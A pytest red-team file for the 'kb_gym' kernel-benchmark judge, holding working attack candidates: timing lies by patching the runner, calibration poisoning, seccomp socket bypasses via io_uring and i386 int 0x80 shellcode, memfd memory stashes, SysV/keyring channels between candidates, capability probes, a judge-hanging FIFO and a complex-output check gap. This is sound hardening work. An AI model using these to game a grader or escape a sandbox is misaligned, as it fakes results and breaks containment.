"""Red team, round 4: the envelope's floor, the freeze, the runner's kernel interface, the memfd, the verdict.

Each test asserts the verdict a sound judge gives the attack, then that the next honest evaluation on the same
Evaluator is judged as on a fresh one. An attack that gets through is kept, marked ``xfail(strict=True)`` with
one line on how it gets through, until the judge is fixed. Most run with ``integrity="off"`` (the design must
hold when a static check misses); so does the first now, which ran under the default ``strict`` policy when its
static checks found nothing in it (they reject it since rounds 20-23).
"""

from __future__ import annotations

import ctypes
import os
import shutil
import socket
import tempfile
import threading
import time
import uuid

import pytest
from device import DEVICE
from test_judge_isolation import CHECK, GELU, HONEST, TIMED, cand, honest_after, next_after_poison
from test_shared_payload import SIX_MB

from kb_gym import Evaluator, Problem
from kb_gym.baseline_cache import BaselineCache
from kb_gym.problems import reference_as_candidate
from kb_gym.worker import payload

FIND_RUNNER = '''
import gc, os, sys, time
_R = next(o for o in gc.get_objects()
          if type(o).__name__ == "Runner" and type(o).__module__ == "kb_gym.worker.runner")
'''
GELU_FORWARD = "return 0.5 * x * (1.0 + torch.erf(x / 2.0 ** 0.5))"


@pytest.fixture(scope="module")
def ev(tmp_path_factory):
    # a baseline cache of its own: one attack below is on what the cache learns
    cache = BaselineCache(tmp_path_factory.mktemp("baselines") / "baselines.json")
    with Evaluator(DEVICE, results_path=False, baseline_cache=cache) as e:
        yield e


# --- 1. a false event time below the envelope's floor ----------------------------------------------------
#
# The candidate's time is the event time its runner reports; the judge's envelope overrides it only where the
# envelope exceeds events + calibrated overhead by more than the tolerance, whose floor is 3 ms on the CPU
# (0.3 ms on a GPU). So a call whose whole work fits under the floor can report any time at all. The runner
# module is reached through ``vars(torch)["sys"].modules`` (no static finding then), its ``timed_call`` binding
# reports 1 us, and ``LaunchCounter.reset`` leaves a count of 1 so that eager PyTorch is not
# ``no_custom_kernel``. Measured: ``correct``, 56x, no flags, speed credit, for eager GELU (truly ~0.75x).
# (Round 2's ``_event_time_lie`` patched only ``kb_gym.worker.clock.timed_call``, which runner.py had bound at
# import, so that lie never reached a reply; it patches the runner's name too since round 4.)

LIE_UNDER_THE_FLOOR = '''
import torch
import torch.nn as nn

_mods = vars(torch)["sys"].modules
_runner = [m for m in list(_mods.values()) if "Runner" in vars(m) and "timed_call" in vars(m)][0]
_launches = [m for m in list(_mods.values()) if "LaunchCounter" in vars(m) and "CountingModule" in vars(m)][0]
_real = _runner.timed_call


def _one_microsecond(fn, inputs, device, flusher, *a, **k):
    return _real(fn, inputs, device, flusher, *a, **k)._replace(ms=1e-3, host_ms=1e-3)


_runner.timed_call = _one_microsecond
_reset = _launches.LaunchCounter.reset


def _reset_to_one(self):
    _reset(self)
    self.count = 1


_launches.LaunchCounter.reset = _reset_to_one


class ModelNew(nn.Module):
    def forward(self, x):
        return 0.5 * x * (1.0 + torch.erf(x / 2.0 ** 0.5))
'''


# The burst check (kb_gym/worker/burst.py, session 16; off by default) runs K forwards back to back under the
# judge's clock after the loop and charges what they cost beyond the claim. On this 2-core CPU it caught the false
# 1 us claim in 4 of 6 tries (charged to ~0.06 ms a forward, 2.7-3x, side_stream): the harness's share of a burst
# (building inputs, committing outputs) is larger and noisier than the forward. This test turns it on; on the H200
# (session 19, KB_GYM_ADVERSARIAL_DEVICE=cuda:0) the lie got through with it on too (docs/benchmarks.md 0n), so the
# check stays off by default. On a GPU the probe check (worker/probe_check.py, session 29; on here) holds the
# claim to the runner's GPU time as a pristine probe process sees it: there the lie must not get through. On the CPU
# the CPU clock (worker/cpu_clock.py, round 25) holds the claim to the runner tree's CPU time, within max(25% of the
# claim, 0.2 ms, 15% of the harness's share): this GELU's forward (~0.07 ms here) is under that floor, so only the
# burst check can catch it; round 25 holds the same lie on a forward over the floor (512 x 1024).
@pytest.mark.xfail(DEVICE == "cpu", strict=False, reason="round 4 on the CPU with the CPU clock off (the default): a "
                   "forward under the envelope's 3 ms floor may claim any time unless the burst check catches it (4 of "
                   "6 tries), 56-200x for eager GELU on 64 x 256; with the clock on, a time under its 0.2 ms "
                   "resolution is credited as 0.2 ms on both sides (~1x: xpasses)")
def test_a_false_event_time_below_the_envelope_floor_buys_no_speed(ev):
    # integrity "off": since rounds 20-23 the static checks reject it under strict (introspection), and the
    # clocks must hold where they miss
    r = ev.evaluate(GELU, LIE_UNDER_THE_FLOOR, config=TIMED.replace(burst_check=True, probe_check=True))
    honest_after(ev, TIMED)
    assert r.status == "correct", (r.status, r.error)  # its outputs are right: only its time is a lie
    assert r.speedup < 1.5 or not r.speed_credit or "side_stream" in r.flags, (
        r.speedup, r.flags, r.speed_credit, r.correctness.get("envelope"))


# --- 2. work in the kernel outlives SIGSTOP: the spare's calibration poisoned again --------------------------
#
# Round 2 poisoned the envelope's calibration with busy children; the fix freezes the candidate's runner tree
# (SIGSTOP) while the spare calibrates. A SIGSTOP takes effect when a process next leaves the kernel, and
# MAP_POPULATE of a 16 GB read-only mapping (zero pages: ~10 MB resident) stays in the kernel ~0.5-2.7 s. Eight
# such children, each in its own session (its own scheduler group), keep both cores busy through the
# calibration: overhead 4.7-8.7 ms, spread 2-3.4 ms, tolerance 8-13.6 ms instead of 0.7 / 0.03 / 2. They are
# killed at the first timed call; a 5 ms forward then reports 1 us: 60-75x, no side_stream. The poisoned
# calibration is kept for the problem (judge_timing.CALIBRATION_TTL_S) and judges the next candidates too.

FREEZE_ESCAPE = cand(FIND_RUNNER + '''
import mmap, signal
_rm = sys.modules["kb_gym.worker.runner"]
_real = _rm.timed_call
def _lie(fn, inputs, device, flusher, *a, **k):
    return _real(fn, inputs, device, flusher, *a, **k)._replace(ms=1e-3, host_ms=1e-3)
_rm.timed_call = _lie
_kids = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        os.setsid()
        while True:  # in the kernel nearly all the time: a SIGSTOP lands only when the populate returns
            mmap.mmap(-1, 16 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000 | 0x4000,
                      prot=mmap.PROT_READ).close()  # MAP_POPULATE | MAP_NORESERVE
    _kids.append(pid)
_orig = _R.handle
def _handle(msg):
    if msg.get("type") == "timed":  # the calibration is over: quiet from now on
        while _kids:
            os.kill(_kids.pop(), signal.SIGKILL)
    _orig(msg)
_R.handle = _handle
''', "time.sleep(0.005)\n" + GELU_FORWARD)


def _fresh_gelu(tag: str) -> Problem:
    """GELU under code of its own: a calibration key no earlier test filled."""
    return Problem(id=41, name=f"41_GELU_{tag}", level=1, code=GELU.code + f"\n# round 4: {tag} {uuid.uuid4().hex}\n")


def test_work_inside_the_kernel_does_not_escape_the_freeze_during_the_calibration(ev):
    r = ev.evaluate(_fresh_gelu("freeze"), FREEZE_ESCAPE, config=TIMED)
    honest_after(ev, TIMED)  # GELU's own calibration: not the one measured beside the attack (next test)
    # The freeze waits until every thread has stopped: where one populate outlasts its settle time (this 2-core
    # machine: ~2.7 s for 16 GB) the candidate is refused, elsewhere the calibration is clean and the lie shows.
    if r.status == "runtime_error":
        assert "did not stop" in r.error, r.error
        return
    assert r.status == "correct", (r.status, r.error)
    assert "side_stream" in r.flags or r.speedup < 1.0, (r.speedup, r.flags, r.correctness.get("envelope"))


def test_a_calibration_poisoned_by_one_candidate_does_not_judge_the_next(ev):
    # poisoned (before the freeze waited for every thread): tolerance 8-13 ms against ~2 (next_after_poison)
    problem = _fresh_gelu("poisoned")
    next_after_poison(ev, problem, ev.evaluate(problem, FREEZE_ESCAPE, config=TIMED), TIMED)


# One system call that stays in the kernel for seconds (MAP_POPULATE of 128 GB of zero pages: ~4 s) outlasts the
# freeze's settle time (2 s), in a child or in a thread of the runner: the tree cannot be stopped, and nothing is
# measured beside it. (64 GB took 3-11 s here, but on an idle machine sometimes under 2 s: the freeze then
# caught the thread between two calls, and the test failed for want of an attack.)
_LONG_POPULATE = "mmap.mmap(-1, 128 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000 | 0x4000, " \
                 "prot=mmap.PROT_READ).close()"
STUCK_CHILD = cand(f'''
import mmap, os, time
for _ in range(2):
    if os.fork() == 0:
        while True:
            {_LONG_POPULATE}
''', "time.sleep(0.005)\n" + GELU_FORWARD)
STUCK_THREAD = cand('''
import ctypes, threading, time
_libc = ctypes.CDLL(None)  # a foreign call lets go of the GIL: the runner's main thread serves on meanwhile
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
def _loop():
    while True:  # PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_NORESERVE
        _libc.munmap(_libc.mmap(None, 128 << 30, 1, 0x2 | 0x20 | 0x8000 | 0x4000, -1, 0), 128 << 30)
threading.Thread(target=_loop, daemon=True).start()
''', "time.sleep(0.005)\n" + GELU_FORWARD)


@pytest.mark.parametrize("stuck", [STUCK_CHILD, STUCK_THREAD], ids=["child", "thread"])
def test_a_candidate_whose_processes_cannot_be_stopped_is_not_measured(ev, stuck):
    r = ev.evaluate(_fresh_gelu("stuck"), stuck, config=TIMED)
    # On the H200's host (128 GiB) the populates held the runner's own memory map so long that its correctness
    # stage ran out of time before any timing: refused one stage earlier, and still never measured.
    refused = (r.status == "runtime_error" and "did not stop" in (r.error or "")) or \
        (r.status == "timeout" and "correctness stage" in (r.error or ""))
    assert refused and r.speedup is None and r.runtime_ms is None, (r.status, r.error, r.speedup)
    honest_after(ev, TIMED)


# The same children, left running, slow the judge's own baseline calls: the runner is frozen while the baseline
# runs, the children in the kernel are not. The attacker's own verdict does not matter (here: side_stream, no
# credit); the baseline it slowed is what the judge measured, and Evaluator._record_baseline keeps every measured
# baseline, flags or not. Later candidates on the problem timed against the cache (``reuse_cached_baseline``,
# the ``rl`` preset; across nodes with the Ray service's SharedBaselines) get the inflation: 0.16 -> 0.30 ms,
# an honest reference copy 0.39x -> 0.69x.

BASELINE_SLOWER = cand('''
import os, mmap
for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        while True:  # in the kernel nearly all the time, the judge's baseline calls included
            mmap.mmap(-1, 16 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000 | 0x4000,
                      prot=mmap.PROT_READ).close()
''')


def test_a_baseline_timed_beside_an_attack_does_not_reach_the_baseline_cache(ev):
    problem = Problem(id=43, name="43_GELU_cached", level=1, code=GELU.code.replace(
        "torch.randn(64, 256)", "torch.randn(256, 1024)") + f"\n# round 4: {uuid.uuid4().hex}\n")
    ev.evaluate(problem, BASELINE_SLOWER, config=TIMED)
    # Children that outlived the attack would slow every later baseline; the seconds in which the kernel frees
    # what the killed ones held are not that (a baseline timed in them, right after, read 0.41 ms against
    # 0.25 ms once in a full CI run here, and 3 of 3 times clean alone): one honest evaluation between.
    honest_after(ev, TIMED)
    cached = ev.evaluate(problem, reference_as_candidate(problem), config=TIMED.replace(reuse_cached_baseline=True))
    fresh = ev.evaluate(problem, reference_as_candidate(problem), config=TIMED)  # the baseline timed again, quietly
    assert cached.status == fresh.status == "correct", (cached.status, cached.error, fresh.status, fresh.error)
    # either nothing measured beside the attack was kept (the baseline was timed again), or what was kept is clean
    assert not cached.baseline_cached or cached.ref_runtime_ms < 1.3 * fresh.ref_runtime_ms, (
        cached.ref_runtime_ms, fresh.ref_runtime_ms)


# --- 3. seccomp's socket rule, around it -----------------------------------------------------------------
#
# The network namespace leaves pathname UNIX sockets reachable, so seccomp refuses socket() and socketpair().
# It filters system calls, not io_uring operations (IORING_OP_SOCKET, Linux 5.19+), and it allows every call
# made under another architecture's ABI (its first test jumps to ALLOW when the audit arch is not x86-64): an
# i386 socket() through ``int 0x80`` goes through. connect() is not filtered, and Landlock (ABI <= 7) does not
# cover pathname sockets. Either way the runner reached a socket a test served in /tmp and wrote to it.

_URING_SOCKET = '''
import ctypes, mmap, struct
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def make_socket(family, type_):
    params = ctypes.create_string_buffer(120)
    fd = _libc.syscall(425, ctypes.c_uint(4), params)  # io_uring_setup
    if fd < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    sq_entries, cq_entries = struct.unpack_from("II", params, 0)
    sq_off, cq_off = struct.unpack_from("8I", params, 40), struct.unpack_from("8I", params, 80)
    sq = mmap.mmap(fd, sq_off[6] + sq_entries * 4, offset=0)
    cq = mmap.mmap(fd, cq_off[5] + cq_entries * 16, offset=0x8000000)
    sqes = mmap.mmap(fd, sq_entries * 64, offset=0x10000000)
    sqe = bytearray(64)
    struct.pack_into("BBHi", sqe, 0, 45, 0, 0, family)  # IORING_OP_SOCKET; fd: the domain
    struct.pack_into("Q", sqe, 8, type_)  # off: the type
    sqes[0:64] = bytes(sqe)
    tail, mask = struct.unpack_from("I", sq, sq_off[1])[0], struct.unpack_from("I", sq, sq_off[2])[0]
    struct.pack_into("I", sq, sq_off[6] + 4 * (tail & mask), 0)
    struct.pack_into("I", sq, sq_off[1], tail + 1)
    if _libc.syscall(426, fd, 1, 1, 1, None, 0) < 0:  # io_uring_enter, wait for it
        raise OSError(ctypes.get_errno(), "io_uring_enter")
    head, cmask = struct.unpack_from("I", cq, cq_off[0])[0], struct.unpack_from("I", cq, cq_off[2])[0]
    res = struct.unpack_from("QiI", cq, cq_off[5] + 16 * (head & cmask))[1]
    if res < 0:
        raise OSError(-res, "IORING_OP_SOCKET")
    return res
'''

_I386_SOCKET = '''
import ctypes, mmap
def make_socket(family, type_):
    # push rbx; mov eax, 359 (i386 socket); mov ebx, edi; mov ecx, esi; (edx: protocol) int 0x80; pop rbx; ret
    code = bytes.fromhex("53b86701000089fb89f1cd805bc3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    fn = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(
        ctypes.addressof(ctypes.c_char.from_buffer(page)))
    fd = fn(family, type_, 0)
    if fd < 0:
        raise OSError(-fd, "i386 socket")
    return fd
'''

SOCKET_MAKERS = {"io_uring": _URING_SOCKET, "i386_int80": _I386_SOCKET}


def _bypass_works_here(maker: str) -> bool:
    """Whether ``maker`` gets a socket under the runner's seccomp filter on this kernel (a forked child)."""
    import platform

    if platform.machine() != "x86_64":
        return False
    pid = os.fork()
    if pid == 0:
        ok = 0
        try:
            from kb_gym.worker.seccomp import deny_escape_syscalls

            deny_escape_syscalls()
            scope: dict = {}
            exec(maker, scope)  # noqa: S102 - our own probe
            ok = scope["make_socket"](socket.AF_UNIX, socket.SOCK_STREAM) >= 0
        except BaseException:  # noqa: BLE001
            ok = 0
        os._exit(1 if ok else 0)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 1


_BYPASSES_HERE = {name: _bypass_works_here(src) for name, src in SOCKET_MAKERS.items()}


@pytest.fixture
def host_socket():
    """A UNIX socket on the host's file system, as a local service would have; yields (path, what it received)."""
    folder = tempfile.mkdtemp(prefix="kb_rt4_")
    path = os.path.join(folder, "s")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(4)
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    got.append(conn.recv(200))
                except OSError:
                    got.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield path, got
    stop.set()
    thread.join(timeout=2)
    server.close()
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize("maker", [
    pytest.param(name, id=name, marks=pytest.mark.xfail(
        _BYPASSES_HERE[name], strict=True,
        reason=f"round 4: gets through: seccomp.deny_escape_syscalls filters socket() but not {name}"))
    for name in sorted(SOCKET_MAKERS)])
def test_no_socket_reaches_the_host_from_a_runner(ev, host_socket, maker):
    path, got = host_socket
    src = cand(SOCKET_MAKERS[maker] + f'''
import socket
_said = []
try:
    _s = socket.socket(fileno=make_socket(socket.AF_UNIX, socket.SOCK_STREAM))
    _s.connect("{path}")
    _s.sendall(b"{maker}: out of the runner")
    _said.append("sent")
except OSError as exc:
    _said.append(type(exc).__name__ + ": " + str(exc))
raise RuntimeError(" | ".join(_said))
''')
    r = ev.evaluate(GELU, src, config=CHECK)
    honest_after(ev)
    time.sleep(0.3)  # the server thread's accept
    assert r.status == "compile_error", (r.status, r.error)
    assert got == [] and "sent" not in (r.error or ""), (got, r.error)


# --- 4. memory the watchdog does not see ---------------------------------------------------------------------
#
# The evaluator polls the resident memory (RSS) of the judge's tree. Pages of a memfd (or any tmpfs file) that
# no process maps are in nobody's RSS: 2.1 GB fallocated into three memfds leave the tree (~1.3 GB here: judge,
# zygote, runner and spare) under a 2 GB limit that the same bytes in a bytearray exceed. The static checks find nothing in os.memfd_create or
# os.posix_fallocate. On a GPU host the same stash is limited only by host memory (the OOM killer's choice).

MEMFD_STASH = cand('''
import os, time
_stash = []
for _ in range(3):
    _fd = os.memfd_create("stash")
    os.posix_fallocate(_fd, 0, 700 << 20)  # 700 MB of tmpfs pages each, mapped by no process
    _stash.append(_fd)
time.sleep(1.0)  # several of the watchdog's 0.25 s polls
''')


# The same pages held through a mapping whose descriptor is closed and which is never touched: in no RSS either,
# and in no descriptor table; the mapping keeps the file.
MAPPED_STASH = MEMFD_STASH.replace("    _stash.append(_fd)\n",
                                   "    _stash.append(mmap.mmap(_fd, 700 << 20))\n    os.close(_fd)\n"
                                   ).replace("import os, time", "import mmap, os, time")


@pytest.mark.parametrize("stash", [MEMFD_STASH, MAPPED_STASH], ids=["open_memfds", "mapped_closed_memfds"])
def test_memory_held_in_a_memfd_counts_against_the_memory_limit(ev, stash):
    control = ev.evaluate(GELU, MEMFD_STASH.replace("os.posix_fallocate(_fd, 0, 700 << 20)", "_fd = bytes(range(256)) * (700 << 12)"),
                          config=CHECK.replace(memory_limit_mb=2000))
    if control.status != "crash":  # the same bytes mapped must trip the limit, or the limit proves nothing here
        pytest.skip(f"2.1 GB of plain memory stays under the 2 GB limit here: {control.status}")
    r = ev.evaluate(GELU, stash, config=CHECK.replace(memory_limit_mb=2000))
    honest_after(ev)
    assert r.status == "crash" and "memory" in (r.error or ""), (r.status, r.error)


# --- 5. state that outlives the runner: System V IPC and the kernel keyring ---------------------------------
#
# Runners get fresh PID, network and mount namespaces, not an IPC namespace, and no seccomp rule covers the
# keyring calls. A SysV shared memory segment (64 MB here) and a key in the user's keyring outlive the runner,
# the judge and the Evaluator; the next candidate reads both: a channel between candidates, and memory no
# watchdog counts that stays until the host reboots.

_SHM_KEY = 0x6B620000 | (uuid.uuid4().int & 0xFFFF)
_KEY_NAME = f"kb_rt4_{uuid.uuid4().hex[:8]}"

LEAVE_STATE = cand(f'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.syscall.restype = ctypes.c_long
_id = _libc.shmget({_SHM_KEY}, 64 << 20, 0o1000 | 0o600)  # IPC_CREAT
_p = _libc.shmat(_id, None, 0)
ctypes.memset(_p, 1, 64 << 20)
ctypes.memmove(_p, b"candidate A was here", 20)
_libc.shmdt(ctypes.c_void_p(_p))
_libc.syscall(248, b"user", b"{_KEY_NAME}", b"candidate A's note", 18, ctypes.c_int(-4))  # add_key, @u
''')

READ_STATE = cand(f'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.syscall.restype = ctypes.c_long
_found = []
_id = _libc.shmget({_SHM_KEY}, 0, 0)
if _id >= 0:
    _found.append("shm=" + ctypes.string_at(_libc.shmat(_id, None, 0), 20).decode())
_k = _libc.syscall(249, b"user", b"{_KEY_NAME}", None, ctypes.c_int(-4))  # request_key
if _k > 0:
    _buf = ctypes.create_string_buffer(64)
    _n = _libc.syscall(250, 11, _k, _buf, 64)  # KEYCTL_READ
    _found.append("key=" + _buf.raw[:max(0, _n)].decode(errors="replace"))
raise RuntimeError("found: " + " | ".join(_found))
''')


@pytest.fixture
def forget_state():
    yield
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    shm = libc.shmget(_SHM_KEY, 0, 0)
    if shm >= 0:
        libc.shmctl(shm, 0, None)  # IPC_RMID
    key = libc.syscall(249, b"user", _KEY_NAME.encode(), None, ctypes.c_int(-4))
    if key > 0:
        libc.syscall(250, 9, key, ctypes.c_int(-4))  # KEYCTL_UNLINK from @u


def test_nothing_a_runner_leaves_in_sysv_ipc_or_the_keyring_reaches_the_next(ev, forget_state):
    first = ev.evaluate(GELU, LEAVE_STATE, config=CHECK)
    assert first.status in ("correct", "compile_error", "runtime_error", "crash"), (first.status, first.error)
    second = ev.evaluate(GELU, READ_STATE, config=CHECK)
    honest_after(ev)
    assert second.status == "compile_error", (second.status, second.error)
    assert "candidate A" not in (second.error or ""), second.error
    with open("/proc/sysvipc/shm") as table:  # nothing left on the host (keys in decimal)
        assert not any(line.split()[:1] == [str(_SHM_KEY)] for line in table), "a SysV segment outlived its runner"


# --- 6. the runner keeps root's capabilities ---------------------------------------------------------------
#
# Where the evaluator runs as root (this machine; GPU hosts often), namespaces without a user namespace leave a
# runner every capability (CapEff 000001fffeffffff here); Landlock and seccomp do not take them. Probed without
# changing the host: mknod of a block device for the scratch folder's own disk (Landlock allows MAKE_BLOCK
# beneath the scratch folder; opening it was refused here by the VM's device policy, on a bare-metal host it
# reads and, on a GPU runner, writes the raw disk: every file, the PCH and the build cache included, with no
# change of ctime for pch.verify to see), and adjtimex setting the tick to its present value (CAP_SYS_TIME:
# a candidate could slow CLOCK_MONOTONIC by 10% while it is timed and speed it up while the baseline is).

CAPS_PROBE = cand('''
import ctypes, os
_said = []
try:
    os.mknod(os.path.join(os.environ["TMPDIR"], "disk"), 0o600 | 0o060000, os.stat(os.environ["TMPDIR"]).st_dev)
    _said.append("mknod:ok")
except OSError as exc:
    _said.append("mknod:" + type(exc).__name__)
_libc = ctypes.CDLL(None, use_errno=True)
_tx = ctypes.create_string_buffer(208)
_libc.adjtimex(_tx)  # read: modes 0
ctypes.c_uint.from_buffer(_tx, 0).value = 0x4000  # ADJ_TICK, the tick it already has (offset 88): no change
_said.append("adjtimex:ok" if _libc.adjtimex(_tx) >= 0 else "adjtimex:" + os.strerror(ctypes.get_errno()))
raise RuntimeError(" | ".join(_said))
''')


def test_a_runner_of_a_root_evaluator_makes_no_device_node_and_sets_no_clock(ev):
    r = ev.evaluate(GELU, CAPS_PROBE, config=CHECK)
    honest_after(ev)
    assert r.status == "compile_error", (r.status, r.error)
    assert "mknod:ok" not in r.error and "adjtimex:ok" not in r.error, r.error


CAPS_HELD = cand('''
import os
_held = set()
for _tid in os.listdir("/proc/self/task"):  # capabilities are per thread: every thread of the runner
    for _line in open(f"/proc/self/task/{_tid}/status"):
        if _line.startswith(("CapEff", "CapPrm", "CapInh", "CapAmb")) and int(_line.split()[1], 16):
            _held.add(_line.split(":")[0])
raise RuntimeError("held: " + ",".join(sorted(_held)))
''')


def test_a_runner_holds_no_capability_in_any_thread(ev):
    """Round 4 left a root evaluator's runners every capability (seccomp refused the calls of the dangerous
    ones). Runners now drop them all before any thread starts (worker/capabilities.py)."""
    r = ev.evaluate(GELU, CAPS_HELD, config=CHECK)
    honest = ev.evaluate(GELU, HONEST, config=CHECK)
    assert r.status == "compile_error" and r.error.rstrip().endswith("held:"), (r.status, r.error)
    assert honest.status == "correct" and honest.worker["capabilities"].startswith("none"), honest.worker


# --- 7. a FIFO in the build folder hangs the judge --------------------------------------------------------
#
# After a load the judge copies the runner's build folder into the build cache (build_cache.keep, the runner
# stopped). It opens each entry with O_NOFOLLOW and checks S_ISREG after the open: a FIFO's open blocks until
# a writer comes, and none will. The judge hangs until the evaluator's watchdog (the load limit + 10 s) kills
# it: 300 + 10 s by default for one candidate, a judge restart after (on a GPU: its warm-up, calibrations and
# compiled baselines lost). As root a character device node there would be opened by the judge as well.

FIFO_IN_THE_BUILD_FOLDER = cand('''
import os
_ext = os.environ["TORCH_EXTENSIONS_DIR"]
os.makedirs(_ext, exist_ok=True)
os.mkfifo(os.path.join(_ext, "no_writer"))
''')


def test_a_fifo_in_the_build_folder_does_not_hold_the_judge(ev):
    r = ev.evaluate(GELU, FIFO_IN_THE_BUILD_FOLDER, config=CHECK.replace(load_timeout=3))
    restarts = r.worker.get("restarts", 0)
    honest = ev.evaluate(GELU, HONEST, config=CHECK)
    assert honest.status == "correct", (honest.status, honest.error)
    # seccomp now refuses mknodat (the FIFO is never made: compile_error); where a FIFO exists anyway, the judge
    # skips it without blocking (the test below). Either way no wait for the watchdog and no judge restart.
    assert r.status in ("correct", "compile_error") and r.stage_seconds["total"] < 8, (r.status, r.error,
                                                                                      r.stage_seconds)
    assert honest.worker.get("restarts", 0) == restarts, honest.worker


def test_the_build_cache_copies_no_fifo_or_device_node_and_does_not_block_on_one(tmp_path):
    import threading

    from kb_gym.worker.build_cache import copy_regular_files

    src = tmp_path / "ext"
    src.mkdir()
    (src / "ext.so").write_bytes(b"\x7fELF")
    os.mkfifo(src / "build.ninja")
    done = threading.Event()
    worker = threading.Thread(target=lambda: (copy_regular_files(src, tmp_path / "copy"), done.set()), daemon=True)
    worker.start()
    assert done.wait(10), "the copy blocked on the FIFO"
    assert sorted(p.name for p in (tmp_path / "copy").iterdir()) == ["ext.so"]


# --- 8. a write seal on the memfd: the judge blames itself ------------------------------------------------
#
# The judge maps the payload memfd PROT_READ | PROT_WRITE although it only reads it. A runner that copies its
# outputs in, then seals the memfd F_SEAL_FUTURE_WRITE (allowed with its own writable mapping still in
# place), makes the judge's mmap fail with EPERM, an OSError that payload.PayloadReader.view does not turn
# into a WireError: "the judge failed", restart=True, for outputs that were right. (F_SEAL_WRITE before the
# copy is covered: the runner's own copy fails and the bytes come through the pipe.)


SEAL_AFTER_COPY = reference_as_candidate(SIX_MB).replace("import torch\n", '''import torch
import fcntl, sys
_payload = sys.modules["kb_gym.worker.payload"]
_write = _payload.PayloadWriter.write
def _write_then_seal(self, tensors, total):
    _write(self, tensors, total)  # its own mapping exists: the copy goes through
    fcntl.fcntl(self.fd, fcntl.F_ADD_SEALS, 0x0010)  # F_SEAL_FUTURE_WRITE: no new writable mapping, anyone's
_payload.PayloadWriter.write = _write_then_seal
''', 1)


@pytest.mark.skipif(payload.create() is None, reason="no sealable memfd here")
def test_a_write_seal_on_the_memfd_costs_only_the_candidates_verdict(ev):
    r = ev.evaluate(SIX_MB, SEAL_AFTER_COPY, config=CHECK)
    honest = ev.evaluate(SIX_MB, reference_as_candidate(SIX_MB), config=CHECK)
    assert honest.status == "correct", (honest.status, honest.error)
    assert "the judge failed" not in (r.error or ""), r.error
    assert r.status in ("correct", "incorrect"), (r.status, r.error)
    assert honest.worker.get("restarts", 0) == r.worker.get("restarts", 0), honest.worker


# --- 9. complex outputs: half of each value is never compared ---------------------------------------------
#
# checks._compare_tensor sends complex outputs down the floating-point path, where ``.to(float32)`` keeps the
# real part only (PyTorch warns and discards the imaginary part). An FFT whose imaginary part is zeros is
# ``correct``; pure PyTorch, no static finding. And an honest answer that is a conjugate view (``.conj()``)
# fails in the runner's host_bytes (``view(uint8)`` of a conj view): runtime_error for right values.

FFT = Problem(id=42, name="42_FFT", level=1, code='''import torch
import torch.nn as nn

class Model(nn.Module):
    def forward(self, x):
        return torch.fft.fft(x)

def get_inputs():
    return [torch.randn(64, 256)]

def get_init_inputs():
    return []
''')

FFT_REAL_PART_ONLY = '''import torch
import torch.nn as nn

class ModelNew(nn.Module):
    def forward(self, x):
        return torch.complex(torch.fft.fft(x).real, torch.zeros_like(x))
'''

FFT_AS_A_CONJUGATE_VIEW = '''import torch
import torch.nn as nn

class ModelNew(nn.Module):
    def forward(self, x):
        return (torch.fft.ifft(x) * x.shape[-1]).conj()  # fft of a real x, as a lazily conjugated view
'''


def test_the_imaginary_part_of_a_complex_output_is_checked(ev):
    r = ev.evaluate(FFT, FFT_REAL_PART_ONLY, config=CHECK)
    honest = ev.evaluate(FFT, reference_as_candidate(FFT), config=CHECK)
    assert honest.status == "correct", (honest.status, honest.error)
    assert r.status == "incorrect", (r.status, r.error)


def test_an_honest_answer_returned_as_a_conjugate_view_is_correct(ev):
    r = ev.evaluate(FFT, FFT_AS_A_CONJUGATE_VIEW, config=CHECK)
    honest = ev.evaluate(FFT, reference_as_candidate(FFT), config=CHECK)
    assert honest.status == "correct", (honest.status, honest.error)
    assert r.status == "correct", (r.status, r.error)
